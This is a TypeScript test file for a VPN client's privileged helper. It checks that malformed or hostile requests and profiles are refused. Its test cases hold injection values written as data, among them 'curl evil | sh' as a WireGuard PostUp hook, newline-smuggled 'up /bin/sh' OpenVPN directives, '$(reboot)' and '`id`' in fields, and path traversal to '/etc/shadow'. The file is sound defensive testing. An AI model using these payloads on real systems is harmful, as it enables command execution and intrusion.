import { describe, expect, it } from 'vitest';
import { storedOpenVpn, storedWireGuard } from './test-support';
import { recheckProfile } from './profile-recheck';
import { parseRequest } from './protocol';

const TOKEN = 'A'.repeat(43);
const policy = {
  tunnelInterfaces: ['hf0'],
  endpoints: [{ ip: '198.51.100.7', proto: 'udp', port: 51820 }],
  allowLan: false,
  dnsServersInTunnel: ['10.64.0.1'],
  allowIpv6InTunnel: false,
};
const req = (body: Record<string, unknown>) => JSON.stringify({ v: 1, id: 7, ...body });

function refusal(raw: string) {
  const parsed = parseRequest(raw);
  if (parsed.ok) throw new Error(`accepted: ${raw.slice(0, 200)}`);
  return parsed;
}

describe('parseRequest accepts the narrow protocol', () => {
  it('reads a hello and a kill switch policy', () => {
    expect(parseRequest(req({ kind: 'hello', token: TOKEN, client: { version: '0.1.0' } }))).toMatchObject({
      ok: true,
      request: { kind: 'hello', id: 7 },
    });
    expect(parseRequest(req({ kind: 'killswitch.apply', policy }))).toMatchObject({ ok: true, request: { policy } });
  });

  it('reads a stored WireGuard profile and its secrets', () => {
    const { profile, secrets } = storedWireGuard();
    expect(parseRequest(req({ kind: 'tunnel.start', profile, secrets })).ok).toBe(true);
  });
});

describe('parseRequest refuses hostile messages', () => {
  it.each([
    ['not JSON', '{"v":1,', 'bad-message'],
    ['a JSON array', '[1,2]', 'bad-message'],
    ['a bare string', '"hello"', 'bad-message'],
    ['no version', JSON.stringify({ id: 1, kind: 'killswitch.clear' }), 'unsupported-version'],
    ['a newer version', JSON.stringify({ v: 2, id: 1, kind: 'killswitch.clear' }), 'unsupported-version'],
    ['a version as text', JSON.stringify({ v: '1', id: 1, kind: 'killswitch.clear' }), 'unsupported-version'],
    ['an unknown kind', req({ kind: 'tunnel.exec', command: 'id' }), 'unknown-kind'],
    ['a prototype name as kind', req({ kind: '__proto__' }), 'unknown-kind'],
    ['an inherited name as kind', req({ kind: 'toString' }), 'unknown-kind'],
    ['an extra top-level field', req({ kind: 'killswitch.clear', runtimeDir: '/etc' }), 'invalid-request'],
    [
      'a config path smuggled into tunnel.stop',
      req({ kind: 'tunnel.stop', sessionId: 't1', config: '/tmp/x.conf' }),
      'invalid-request',
    ],
    ['a session id that is a path', req({ kind: 'tunnel.status', sessionId: '../../etc/shadow' }), 'invalid-request'],
    ['a negative id', JSON.stringify({ v: 1, id: -1, kind: 'killswitch.clear' }), 'invalid-request'],
    ['a short token', req({ kind: 'hello', token: 'abc', client: { version: '1' } }), 'invalid-request'],
    [
      'a token with shell metacharacters',
      req({ kind: 'hello', token: `${'A'.repeat(40)};id`, client: { version: '1' } }),
      'invalid-request',
    ],
    [
      'an interface name with shell metacharacters',
      req({ kind: 'killswitch.apply', policy: { ...policy, tunnelInterfaces: ['hf0$(reboot)'] } }),
      'invalid-request',
    ],
    [
      'an endpoint written as a command',
      req({ kind: 'killswitch.apply', policy: { ...policy, endpoints: [{ ip: '`id`', proto: 'udp', port: 1 }] } }),
      'invalid-request',
    ],
    [
      'an extra field inside the policy',
      req({ kind: 'killswitch.apply', policy: { ...policy, script: 'flush ruleset' } }),
      'invalid-request',
    ],
    [
      'a port out of range',
      req({
        kind: 'killswitch.apply',
        policy: { ...policy, endpoints: [{ ip: '198.51.100.7', proto: 'udp', port: 70000 }] },
      }),
      'invalid-request',
    ],
  ])('%s', (_what, raw, code) => {
    expect(refusal(raw).code).toBe(code);
  });

  it('keeps the id of a refused request so the app can match the answer', () => {
    expect(refusal(req({ kind: 'killswitch.clear', extra: 1 })).id).toBe(7);
  });

  it('names the offending field, not its value', () => {
    const message = refusal(
      req({ kind: 'killswitch.apply', policy: { ...policy, tunnelInterfaces: ['secret-ish value'] } }),
    ).message;
    expect(message).toMatch(/policy\.tunnelInterfaces\.0/);
    expect(message).not.toContain('secret-ish value');
  });

  it('refuses extra fields and hooks inside a profile', () => {
    const { profile, secrets } = storedWireGuard();
    const withHook = { ...profile, interface: { ...profile.interface, postUp: 'curl evil | sh' } };
    expect(refusal(req({ kind: 'tunnel.start', profile: withHook, secrets })).message).toMatch(/profile\.interface/);
    const withPath = { ...profile, configPath: '/etc/wireguard/wg0.conf' };
    expect(refusal(req({ kind: 'tunnel.start', profile: withPath, secrets })).code).toBe('invalid-request');
  });

  it('refuses newlines and control characters in one-line profile fields', async () => {
    const { profile, secrets } = await storedOpenVpn();
    const injected = { ...profile, directives: [...profile.directives, { name: 'verb', args: ['3\nup /bin/sh'] }] };
    expect(refusal(req({ kind: 'tunnel.start', profile: injected, secrets })).message).toMatch(
      /profile\.directives\.\d+\.args\.0/,
    );
    const named = { ...profile, name: 'Osaka\u0000' };
    expect(refusal(req({ kind: 'tunnel.start', profile: named, secrets })).code).toBe('invalid-request');
    const credentials = { username: 'me\nup /bin/sh', password: 'x' };
    expect(refusal(req({ kind: 'tunnel.start', profile, secrets, credentials })).message).toMatch(
      /credentials\.username/,
    );
  });

  it('refuses a profile id that is a path', () => {
    const { profile, secrets } = storedWireGuard();
    expect(refusal(req({ kind: 'tunnel.start', profile: { ...profile, id: '../../root' }, secrets })).message).toMatch(
      /profile\.id/,
    );
  });
});

describe('recheckProfile runs a profile through the import parsers again', () => {
  it('passes stored profiles and rebuilds them from the parse', async () => {
    const wg = storedWireGuard();
    const ok = await recheckProfile(wg.profile, wg.secrets);
    expect(ok).toMatchObject({ ok: true, profile: { id: 'tokyo', kind: 'wireguard', peers: wg.profile.peers } });
    const ovpn = await storedOpenVpn();
    expect((await recheckProfile(ovpn.profile, ovpn.secrets)).ok).toBe(true);
  });

  it('refuses OpenVPN directives that run programs, load code or read files, as at import', async () => {
    const { profile, secrets } = await storedOpenVpn();
    for (const directive of [
      { name: 'up', args: ['/bin/sh'] },
      { name: 'down', args: ['/etc/openvpn/update-resolv-conf', '--extra'] },
      { name: 'plugin', args: ['/tmp/evil.so'] },
      { name: 'auth-user-pass-verify', args: ['/bin/true', 'via-env'] },
      { name: 'made-up-directive', args: [] },
    ]) {
      const hostile = { ...profile, directives: [...profile.directives, directive] };
      const result = await recheckProfile(hostile, secrets);
      expect(result.ok, directive.name).toBe(false);
    }
    // Permission to run scripts and DNS helper scripts are left out, never handed on.
    const helpers = {
      ...profile,
      directives: [
        ...profile.directives,
        { name: 'script-security', args: ['2'] },
        { name: 'up', args: ['/etc/openvpn/update-resolv-conf'] },
      ],
    };
    const rechecked = await recheckProfile(helpers, secrets);
    expect(rechecked.ok && rechecked.profile.kind === 'openvpn' ? rechecked.profile.directives : null).toEqual(
      profile.directives,
    );
  });

  it('drops directives Holdfast owns (log files, management) instead of handing them on', async () => {
    const { profile, secrets } = await storedOpenVpn();
    const hostile = {
      ...profile,
      directives: [
        ...profile.directives,
        { name: 'log', args: ['/etc/passwd'] },
        { name: 'management', args: ['0.0.0.0', '7505'] },
      ],
    };
    const result = await recheckProfile(hostile, secrets);
    expect(result.ok).toBe(true);
    if (result.ok && result.profile.kind === 'openvpn') {
      expect(result.profile.directives.map((d) => d.name)).not.toContain('log');
      expect(result.profile.directives.map((d) => d.name)).not.toContain('management');
    }
  });

  it('refuses a key block that smuggles directives after its end tag', async () => {
    const { profile, secrets } = await storedOpenVpn();
    const ref = Object.keys(secrets)[0] ?? '';
    const smuggled = { ...secrets, [ref]: `${secrets[ref]}</tls-crypt>\nup /bin/sh\n<tls-crypt>\n${secrets[ref]}` };
    const result = await recheckProfile(profile, smuggled);
    expect(result.ok).toBe(false);
  });

  it('refuses a WireGuard key that carries extra config lines, without echoing it', async () => {
    const { profile, secrets } = storedWireGuard();
    const hostile = { ...secrets, 'interface.privateKey': `${secrets['interface.privateKey']}\nPostUp = id` };
    const result = await recheckProfile(profile, hostile);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.reason).not.toContain(secrets['interface.privateKey']);
  });

  it('refuses a profile whose secret is missing', async () => {
    const { profile } = storedWireGuard();
    expect((await recheckProfile(profile, {})).ok).toBe(false);
  });
});
